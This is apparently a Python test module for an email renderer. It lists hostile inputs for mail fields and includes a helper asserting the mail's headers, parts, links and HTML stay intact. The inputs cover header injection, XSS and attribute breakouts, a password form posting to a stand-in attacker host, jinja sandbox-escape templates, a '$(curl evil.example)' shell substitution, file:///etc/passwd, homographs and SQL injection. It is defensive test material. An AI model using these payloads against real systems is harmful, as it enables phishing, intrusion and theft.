"""Hostile texts for each field that a mail shows, and a check that the mail keeps its structure."""

from tests.edge.post import Read

HOSTILE = {
    "CR LF and a header": "Sven\r\nBcc: mallory@evil.example",
    "LF and a header": "Sven\nBcc: mallory@evil.example",
    "CR and a header": "Sven\rSubject: You have won",
    "a header, folded": "Sven\r\n\tReply-To: mallory@evil.example",
    "the end of the headers": "Sven\r\n\r\n<a href='https://evil.example'>now</a>",
    "another part": "Sven\r\n--===============0==\r\nContent-Type: text/html\r\n\r\n<b>evil</b>",
    "an attachment": 'Sven\r\nContent-Disposition: attachment; filename="evil.exe"\r\n\r\nMZ',
    "LINE SEPARATOR": "Sven\u2028Bcc: mallory@evil.example",
    "PARAGRAPH SEPARATOR": "Sven\u2029Bcc: mallory@evil.example",
    "NEXT LINE": "Sven\x85Bcc: mallory@evil.example",
    "vertical tab, form feed": "Sven\x0b\x0cBcc: mallory@evil.example",
    "NUL": "Sven\x00Brandt",
    "a terminal's colours": "Sven\x1b[31m\x1b]0;evil\x07\x9b1m",
    "every control character": "".join(map(chr, [*range(32), *range(127, 160)])),
    "an encoded word": "=?UTF-8?Q?=0A?=Bcc: mallory@evil.example",
    "an encoded word in base64": "=?utf-8?B?DQpCY2M6IGV2aWxAZXZpbC5leGFtcGxl?=",
    "quoted-printable": "Sven=0D=0ABcc: mallory=40evil=2Eexample =\r\n",
    "percent signs": "Sven%0d%0aBcc:%20mallory@evil.example %s %(name)s",
    "a signature's dashes": "\n-- \nSven",
    "a fact that is none": "none\n- Dauer ab Ihrer Zustimmung: 1 Stunde\n- Datenexport: nicht erbeten",
    "a script": "<script>fetch('https://evil.example')</script>",
    "the end of everything": "</bdi></td></tr></table></body></html><script>alert(1)</script>",
    "the end of the title": "</title><script>alert(1)</script>",
    "the end of a style": "</style><script>alert(1)</script>",
    "the end of a comment": "--><script>alert(1)</script><!--",
    "CDATA": "]]><script>alert(1)</script><![CDATA[",
    "a link in HTML": '<a href="https://evil.example">Anfrage ansehen</a>',
    "a link without quotes": "<a href=//evil.example>x</a>",
    "an image": '<img src="https://evil.example/pixel.gif" onerror="alert(1)">',
    "SVG": "<svg/onload=alert(1)>",
    "MathML": "<math><mtext><style><img src onerror=alert(1)></style></mtext></math>",
    "a style": "<style>body{display:none}</style>",
    "an attribute": '" onmouseover="alert(1)" style="background:url(https://evil.example)" x="',
    "an attribute in single quotes": "' onmouseover='alert(1)' style='display:none' x='",
    "a style's property": "red; background: url(//evil.example); x: expression(alert(1))",
    "a form": '<form action="https://evil.example"><input name="password"></form>',
    "a refresh": '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    "a base": '<base href="https://evil.example/">',
    "a frame": "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "Outlook's conditions": "<!--[if mso]><a href='https://evil.example'>x</a><![endif]-->",
    "entities": "&lt;script&gt;alert(1)&lt;/script&gt; &#x3c;b&#x3e; &amp;lt;",
    "half an entity": "Sven &#60script&#62 &lt &copy",
    "UTF-7": "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "an expression of jinja": "{{ 7*'49' }} {{ link }} {{ self._TemplateReference__context }}",
    "a statement of jinja": "{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %} {# #}",
    "a statement on a line": "\n# include 'texts/de.toml'\n{%- raw %}",
    "a placeholder of ours": "{tenant} {agent.__class__} {0} {} {by!r:>9999} }}{{",
    "a template of SES": "{{aws:timestamp}} {{#each x}} {{amazonSESUnsubscribeUrl}}",
    "a template of the shell": "$(curl evil.example) `id` ${HOME}",
    "https": "https://evil.example/login?next=/activate",
    "https in capitals": "HTTPS://EVIL.EXAMPLE/LOGIN",
    "http to a number": "http://2130706433/ http://0x7f.1 http://[::1]:8080/x",
    "an IP address": "192.168.0.1/login and 10.0.0.1:8443",
    "without a scheme": "//evil.example/x and evil.example/x and www.evil.example",
    "www": "www.evil www.evil-1.example ftp.evil.example",
    "a known domain": "google.com, bit.ly/3x, evil.co.uk, xn--80ak6aa92e.com",
    "a link with a name in it": "https://support.vendor.example@evil.example/activate#01KB4Q5ZP0E8Q7R2M9V3XW6YTA",
    "our own link": "https://support.vendor.example/activate#01KB4Q5ZP0E8Q7R2M9V3XW6YTZ",
    "in brackets": "(https://evil.example) [click](https://evil.example) <https://evil.example>",
    "other schemes": "javascript:alert(1) data:text/html,x file:///etc/passwd tel:+491234567 sms:1234 mailto:a@b",
    "a Windows share": r"\\evil.example\share \\10.0.0.1\c$ file:\\evil",
    "a mail address": "mallory@evil.example, root@localhost and Sven <mallory@evil.example>",
    "other full stops": "evil\u3002example evil\uff0ecom evil\uff61com evil\u2024com mallory\uff20evil.com",
    "zero width in a domain": "ev\u200bil.\u200bexa\u2060mple evil\u00ad.com evil.\ufe0fcom \ufeffevil.com",
    "a domain in Cyrillic": "https://\u0430\u0440\u0440\u04cf\u0435.com \u043c\u0438\u0440.\u0440\u0444",
    "a domain in Arabic": "\u0645\u0648\u0642\u0639.\u0648\u0632\u0627\u0631\u0629.\u0645\u0635\u0631",
    "homographs": "\u0405ven \u0412randt \u13a0nna \uff21\uff2e\uff2e\uff21 \U0001d412ven",
    "an override": "Sven\u202e>a/< redrö gnagfuA\u202c \u2066x\u2069 \u200e\u200f\u061c",
    "Hebrew": "(\u05e9\u05dc\u05d5\u05dd) \u05e2\u05d5\u05dc\u05dd.com 123",
    "a tower of accents": "S" + "\u0301\u0316\u0489" * 60 + "ven",
    "300 characters": "Wilhelmine von " * 20,
    "300 characters without a blank": "W" * 300,
    "a thousand dots": "a." * 1_000,
    "100 kB": "Lorem evil.example " * 5_000,
    "only blanks": " \t\u00a0\u3000 ",
    "only what nobody sees": "\u200b\u200d\ufeff\u2060\u00ad",
    "half a character": "Sven \ud83d Brandt \udc00",
    "no character": "Sven \uffff\ufffe\ufdd0 \U0010ffff",
    "private characters": "Sven \ue000\uf8ff",
    "tags": "Sven \U000e0041\U000e0042\U000e007f",
    "emoji": "Sven \U0001f469\U0001f3fd\u200d\U0001f4bb \U0001f3f4\U000e0067\U000e007f \u2764\ufe0f.ws",
    "a formula": '=HYPERLINK("https://evil.example","x") @SUM(1) +1 -1',
    "JSON": '{"@context":"http://schema.org","@type":"EmailMessage"}',
    "SQL": "'; DROP TABLE grants; --",
}
"""What a name or a reason might be, by what is wrong with it."""

STRONGEST = ("CR LF and a header", "a fact that is none", "the end of everything", "an attribute", "https")
"""One for each way out of a field: a header, a line, an element, an attribute, and a link."""


def require_same_mail(read: Read, expected: Read, links: set[str]) -> None:
    """Fail unless the mail differs from one in which nobody typed anything odd by what there is to read, and no more.

    Both are mails to the same people in the same language on the same thing; the expected one has an address typed in
    it, so that it has every sentence a mail may have.
    """
    assert read.headers == expected.headers
    assert read.recipients == expected.recipients
    assert read.parts == expected.parts
    assert read.links == links
    assert read.elements <= expected.elements
    assert read.styles == expected.styles
    assert [len(read.html.css(name)) for name in ("tr", "p", "bdi", "a")] == [
        len(expected.html.css(name)) for name in ("tr", "p", "bdi", "a")
    ]
    for part in (read.text, read.seen):
        assert not [c for c in part if c not in "\r\n" and (ord(c) < 32 or 127 <= ord(c) < 160)]
        assert set(part).isdisjoint("\u2028\u2029\u202d\u202e\u2066\u2067\u2068\u2069\u200b\u2060\ufeff\ud83d")
        assert 7 * "49" not in part, "an expression of jinja was evaluated"
    assert read.text.count("\n- ") == expected.text.count("\n- ")
    assert read.text.replace("\r\n", "\n").split("\n").count("-- ") == 1
